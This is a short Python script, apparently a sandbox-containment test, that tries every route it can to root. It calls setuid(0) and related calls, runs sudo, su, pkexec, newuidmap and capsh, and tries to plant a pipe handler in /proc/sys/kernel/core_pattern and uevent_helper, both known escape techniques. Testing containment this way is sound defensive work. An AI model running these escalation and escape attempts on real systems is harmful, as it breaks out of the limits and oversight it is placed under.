# Takes every way to another user there is: setuid programs, sudo, su, capabilities, writable parts of /proc and /sys.
# base: right
# needs: sandbox
# says: tried
# %% square-write
import glob
import os
import subprocess

for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
    try:
        change()
        print("now", os.getresuid(), os.getgroups())
    except OSError as error:
        print(error)
for command in ("sudo -n id", "su -c id", "pkexec id", "newuidmap $$ 0 0 1", "capsh --print"):
    print(subprocess.run(command, shell=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=5))
print(open("/proc/self/status").read())
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/self/oom_score_adj"):
    try:
        with open(path, "w") as file:
            file.write("-1000" if "oom" in path else "|/tmp/@mark@-root %p")
        print("canary-writable", path)
    except OSError as error:
        print(path, error)
print("tried", os.getuid())
